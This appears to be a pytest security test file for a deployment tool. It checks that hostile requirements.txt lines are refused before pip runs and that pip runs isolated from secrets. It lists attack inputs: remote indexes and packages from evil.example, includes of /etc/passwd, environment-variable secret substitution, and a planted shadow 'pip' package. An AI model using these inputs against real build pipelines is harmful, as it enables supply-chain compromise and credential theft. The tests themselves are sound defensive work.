"""Attacks through a team's requirements.txt (issue 10, item 2).

The attacker can write ``jobs/<team>/``; the deployer runs ``validate``, ``plan``, ``deploy`` or
``dev`` with powerful credentials in the environment. Every test plants the file, runs the
command, and checks the refusal (``FILE:LINE: ...``) and that pip never ran, or, for the lines
that are allowed, that pip ran isolated: nothing of the team's folder, the deployer's
environment, home or pip configuration reached it.
"""

from __future__ import annotations

import os
import shutil
import subprocess
import textwrap
from pathlib import Path
from typing import Any

import pytest

from cronplane.build import requirements as requirements_cache
from cronplane.build.packaging import RequirementsError, build_job_package, clear_package_cache
from cronplane.errors import ManifestError
from cronplane.local.console import Console
from cronplane.local.devserver import DevOptions, DevServer
from cronplane.manifest.loader import load_manifest
from cronplane.manifest.requirements_file import parse_requirements
from support.wheel_index import build_wheel, serving_index
from testkit import jobctl

ROOT = Path(__file__).resolve().parents[2]
SECRET = "TOPSECRET-7f3a-do-not-leak"
HASH = "sha256:" + "a" * 64
HASH_B = "sha256:" + "b" * 64


@pytest.fixture(autouse=True)
def _fresh_cache() -> None:
    clear_package_cache()


@pytest.fixture
def no_processes(monkeypatch: pytest.MonkeyPatch) -> list[list[str]]:
    """pip, and any subprocess at all, counts as "ran": a refused file must start neither."""
    ran: list[list[str]] = []

    def forbidden(command: Any, *args: Any, **kwargs: Any) -> Any:
        ran.append(list(command))
        raise AssertionError(f"a process was started: {command}")

    monkeypatch.setattr(requirements_cache, "run_pip", forbidden)
    monkeypatch.setattr(subprocess, "run", forbidden)
    monkeypatch.setattr(subprocess, "Popen", forbidden)
    return ran


@pytest.fixture
def project(tmp_path: Path) -> Path:
    root = tmp_path / "project"
    shutil.copytree(ROOT / "jobs", root / "jobs", ignore=shutil.ignore_patterns("__pycache__"))
    shutil.copy(ROOT / "jobs.yaml", root / "jobs.yaml")
    return root


def plant(project: Path, text: str) -> None:
    (project / "jobs/billing/requirements.txt").write_text(textwrap.dedent(text).lstrip("\n"))


def outside_file(tmp_path: Path) -> Path:
    secret = tmp_path / "deployer-only.txt"
    secret.write_text(f"aws_secret_access_key = {SECRET}\n")
    return secret


# (the line, what the refusal says): every way a requirements file makes pip do more than
# install a pinned wheel from the deployer's index.
HOSTILE = [
    ("-r {outside}", "includes another file, which is never read"),
    ("--requirement={outside}", "includes another file"),
    ("-c {outside}", "includes another file"),
    ("-e ./evil", "an editable install runs the project's build code"),
    ("--editable git+https://evil.example/x.git#egg=x", "an editable install"),
    ("./evil", "is not a requirement"),
    ("evil/setup.py", "is not a requirement"),
    ("evil @ file:///tmp/evil", "installs from a URL or path"),
    ("evil @ https://evil.example/evil-1.0.tar.gz", "installs from a URL or path"),
    ("https://evil.example/evil-1.0-py3-none-any.whl", "is not a requirement"),
    ("--index-url https://evil.example/simple", "chooses where packages come from"),
    ("-i https://evil.example/simple", "chooses where packages come from"),
    ("--extra-index-url https://evil.example/simple", "chooses where packages come from"),
    ("--trusted-host evil.example", "chooses where packages come from"),
    ("--find-links /tmp", "chooses where packages come from"),
    ("-f https://evil.example/wheels/", "chooses where packages come from"),
    ("--no-index", "chooses where packages come from"),
    ("--no-binary :all:", "changes how packages are built"),
    ("--pre", "pip options are not accepted"),
    ("requests", "is not pinned to one version"),
    ("requests>=2.31", "is not pinned to one version"),
    ("requests==2.*", "is not pinned to one version"),
    ("requests===2.31.0", "is not pinned to one version"),
    ("requests==2.31.0,<3", "is not pinned to one version"),
    ("requests==2.31.0 --global-option=--evil", "only --hash=sha256:... may follow a requirement"),
    ("requests==2.31.0 --config-settings=--build-option=x", "only --hash=sha256:... may follow"),
    ("requests==2.31.0 --hash=md5:abc", "is not a hash"),
    ("requests==${AWS_SECRET_ACCESS_KEY}", "would be filled in from the environment"),
    ("requests==2.31.0 \\\n  --index-url https://evil.example/simple", "only --hash=sha256:... may follow"),
]


@pytest.mark.parametrize(("line", "refusal"), HOSTILE)
def test_validate_refuses_everything_but_pinned_lines(
    project: Path,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    no_processes: list[list[str]],
    line: str,
    refusal: str,
) -> None:
    hostile = line.replace("{outside}", str(outside_file(tmp_path)))
    plant(project, f"# ok so far\nboto3-stubs==1.34.0\n{hostile}\n")
    code, out, err = jobctl(capsys, "validate", "-f", str(project / "jobs.yaml"))
    assert code == 1 and out == ""
    [message] = err.splitlines()
    assert message.startswith(f"{project}/jobs/billing/requirements.txt:3: ")
    assert refusal in message
    assert SECRET not in err  # an included file is never opened, so never shown
    assert no_processes == []


def test_the_accepted_forms_are_rebuilt_for_pip_and_nothing_else(project: Path) -> None:
    text = textwrap.dedent(
        f"""\
        # a comment, then a blank line

        requests[socks,security]==2.31.0  # why we pin
        urllib3==2.2.1 ; python_version >= "3.10" \\
            --hash={HASH} \\
            --hash {HASH_B}
        Typing_Extensions==4.12.2 --hash={HASH}
        """
    )
    pinned, problems = parse_requirements(text, "jobs/billing/requirements.txt")
    assert [str(p) for p in problems] == [
        "jobs/billing/requirements.txt:3: requests has no --hash while line 4 has one; pip checks hashes "
        "for every line or none: add --hash=sha256:... here (pip-compile --generate-hashes)"
    ]
    assert pinned.text == (
        "requests[security,socks]==2.31.0\n"
        f'urllib3==2.2.1; python_version >= "3.10" --hash={HASH} --hash={HASH_B}\n'
        f"Typing_Extensions==4.12.2 --hash={HASH}\n"
    )
    assert [r.line for r in pinned.requirements] == [3, 4, 7]


def test_a_requirements_link_out_of_the_team_folder_is_refused_unread(
    project: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    os.symlink(outside_file(tmp_path), project / "jobs/billing/requirements.txt")
    code, _, err = jobctl(capsys, "validate", "-f", str(project / "jobs.yaml"))
    assert code == 1
    assert f"jobs/billing/requirements.txt: is a link to {tmp_path}/deployer-only.txt, outside" in err
    assert SECRET not in err


def test_plan_and_deploy_refuse_before_pip_or_aws(
    aws: None, project: Path, capsys: pytest.CaptureFixture[str], no_processes: list[list[str]]
) -> None:
    import boto3

    plant(project, "requests==2.31.0\n--extra-index-url https://evil.example/simple\n")
    for command in (["plan"], ["deploy", "--yes"]):
        code, out, err = jobctl(capsys, *command, "-f", str(project / "jobs.yaml"))
        assert code == 1, (command, out, err)
        assert "jobs/billing/requirements.txt:2: '--extra-index-url https://evil.example/simple' chooses" in err
    assert no_processes == []
    assert boto3.client("lambda").list_functions()["Functions"] == []  # nothing deployed


def test_dev_refuses_before_the_emulator_starts(project: Path, no_processes: list[list[str]]) -> None:
    plant(project, "-e ../../evil\n")
    server = DevServer(DevOptions(manifest_path=project / "jobs.yaml", port=0, write_dev_file=False), Console())
    with pytest.raises(ManifestError, match=r"requirements.txt:1: '-e ../../evil' an editable install"):
        server.start()
    assert not server.ready.is_set() and no_processes == []


def test_building_a_package_directly_still_refuses_before_pip(project: Path, no_processes: list[list[str]]) -> None:
    """Defense in depth: a caller that skipped validation gets the same refusal from the build."""
    plant(project, "requests==2.31.0\n-r /etc/passwd\n")
    manifest = load_manifest(project / "jobs.yaml", check_handlers=False)
    job = manifest.jobs[0]
    with pytest.raises(RequirementsError, match=r"requirements.txt:2: '-r /etc/passwd' includes another file"):
        build_job_package(manifest, job, cache_dir=project / "cache")
    assert no_processes == []


def test_pip_gets_a_rebuilt_file_a_private_folder_and_an_environment_without_secrets(
    project: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    calls: list[tuple[list[str], Path, dict[str, str], str]] = []

    def fake_pip(command: list[str], cwd: Path, env: dict[str, str]) -> subprocess.CompletedProcess[str]:
        given = Path(command[command.index("--requirement") + 1]).read_text()
        calls.append((command, cwd, env, given))
        return subprocess.CompletedProcess(command, 0, "", "")

    monkeypatch.setattr(requirements_cache, "run_pip", fake_pip)
    for name, value in {
        "AWS_ACCESS_KEY_ID": "AKIAIOSFODNN7EXAMPLE",
        "AWS_SECRET_ACCESS_KEY": SECRET,
        "AWS_SESSION_TOKEN": SECRET,
        "GITHUB_TOKEN": SECRET,
        "PIP_INDEX_URL": "https://evil.example/simple",
        "PIP_CONFIG_FILE": str(tmp_path / "evil.conf"),
        "PYTHONPATH": str(project / "jobs/billing"),
        "HTTPS_PROXY": "http://proxy.internal:3128",
    }.items():
        monkeypatch.setenv(name, value)
    plant(project, "requests==2.31.0  # pinned\n")
    manifest = load_manifest(project / "jobs.yaml")
    build_job_package(manifest, manifest.jobs[0], cache_dir=tmp_path / "cache")

    [(command, cwd, env, given)] = calls
    assert given == "requests==2.31.0\n"  # rebuilt from the parsed line; not the team's file
    assert Path(command[command.index("--requirement") + 1]).parent == cwd
    assert not cwd.is_relative_to(project) and not cwd.exists()  # private, and removed again
    assert command[1:5] == ["-I", "-m", "pip", "install"]
    assert {"--isolated", "--only-binary=:all:", "--no-input", "--no-cache-dir"} <= set(command)
    assert command[command.index("--index-url") + 1] == "https://pypi.org/simple"
    assert "--require-hashes" not in command
    assert not any(key.startswith(("AWS_", "PIP_INDEX", "PYTHONPATH", "GITHUB")) for key in env)
    assert SECRET not in repr(env)
    assert env["PIP_CONFIG_FILE"] == os.devnull and env["HTTPS_PROXY"] == "http://proxy.internal:3128"
    assert env["HOME"] != os.path.expanduser("~") and Path(env["HOME"]).is_relative_to(cwd)


def test_the_deployer_may_name_the_index_and_hashes_turn_on_hash_checking(
    project: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    commands: list[list[str]] = []

    def fake_pip(command: list[str], cwd: Path, env: dict[str, str]) -> subprocess.CompletedProcess[str]:
        commands.append(command)
        return subprocess.CompletedProcess(command, 0, "", "")

    monkeypatch.setattr(requirements_cache, "run_pip", fake_pip)
    monkeypatch.setenv("CRONPLANE_PIP_INDEX_URL", "https://mirror.internal/simple")
    plant(project, f"requests==2.31.0 --hash={HASH}\n")
    manifest = load_manifest(project / "jobs.yaml")
    build_job_package(manifest, manifest.jobs[0], cache_dir=tmp_path / "cache")
    [command] = commands
    assert command[command.index("--index-url") + 1] == "https://mirror.internal/simple"
    assert "--require-hashes" in command


# --- real pip, against indexes on 127.0.0.1 ---------------------------------------------------


def test_real_pip_runs_nothing_of_the_team_and_asks_only_the_deployers_index(
    project: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The planted attacks: a ``pip`` package in the team folder (``python -m pip`` run there
    would import it), and the deployer's own PIP_* variables, pip.conf and ~/.netrc pointing at
    another index with a password. pip installs from the deployer's index only, sends no
    password, and the team's "pip" never runs."""
    wheels = tmp_path / "wheels"
    wheels.mkdir()
    wheel = build_wheel(wheels, "demo-pkg", "1.0", {"demo_pkg/__init__.py": "VALUE = 42\n"})
    marker = tmp_path / "team-code-ran"
    shadow = project / "jobs/billing/pip"
    shadow.mkdir()
    (shadow / "__init__.py").write_text("")
    (shadow / "__main__.py").write_text(f"open({str(marker)!r}, 'w').write('ran')\n")
    home = tmp_path / "deployer-home"
    (home / ".config/pip").mkdir(parents=True)
    with serving_index(tmp_path / "good", "demo-pkg", wheel) as good, serving_index(tmp_path / "evil") as evil:
        (home / ".config/pip/pip.conf").write_text(f"[global]\nextra-index-url = {evil.url}\n")
        (home / ".netrc").write_text(f"machine 127.0.0.1 login deployer password {SECRET}\n")
        os.chmod(home / ".netrc", 0o600)
        monkeypatch.setenv("HOME", str(home))
        monkeypatch.setenv("PIP_EXTRA_INDEX_URL", evil.url)
        monkeypatch.setenv("PIP_FIND_LINKS", evil.url)
        monkeypatch.setenv("PYTHONPATH", str(project / "jobs/billing"))
        monkeypatch.setenv("CRONPLANE_PIP_INDEX_URL", good.url)
        plant(project, f"demo-pkg==1.0 --hash=sha256:{good.wheel_sha256}\n")
        manifest = load_manifest(project / "jobs.yaml")
        package = build_job_package(manifest, manifest.jobs[0], cache_dir=tmp_path / "cache")

        assert "demo_pkg/__init__.py" in package.files
        assert not marker.exists()
        assert evil.requests == []
        assert good.requests and all("Authorization" not in headers for _, headers in good.requests)

        # The hash is checked by pip: a wrong one fails the install.
        plant(project, "demo-pkg==1.0 --hash=sha256:" + "0" * 64 + "\n")
        clear_package_cache()
        with pytest.raises(RequirementsError, match=r"DO NOT MATCH THE HASHES|do not match"):
            build_job_package(manifest, manifest.jobs[0], cache_dir=tmp_path / "cache")
    assert not marker.exists()
